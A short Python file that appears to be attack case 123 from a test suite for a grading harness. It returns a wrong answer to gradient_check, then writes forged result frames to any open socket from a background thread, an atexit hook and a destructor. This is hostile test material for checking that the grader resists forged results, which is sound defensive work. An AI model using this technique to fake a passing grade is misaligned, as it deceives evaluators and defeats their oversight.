# ATTACK 123 late_frames
# group: C forged result
# tries: lets a thread, an atexit function and a destructor send frames after the answer
import atexit, os, stat, struct, threading, time
WRONG = (123.456, None)
def send():
    for fd in range(3, 1100):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                body = b'\x94\x03\x01\x92\xcb' + bytes(8) + b'\xc3\x90'
                os.write(fd, struct.pack('>I', len(body)) + body)
        except OSError: pass
class Last:
    def __del__(self): send()
keep = Last()
def later():
    while True:
        time.sleep(0.002)
        send()
atexit.register(send)
def gradient_check(analytic, numeric, tol=1e-6):
    threading.Thread(target=later, daemon=True).start()
    return WRONG
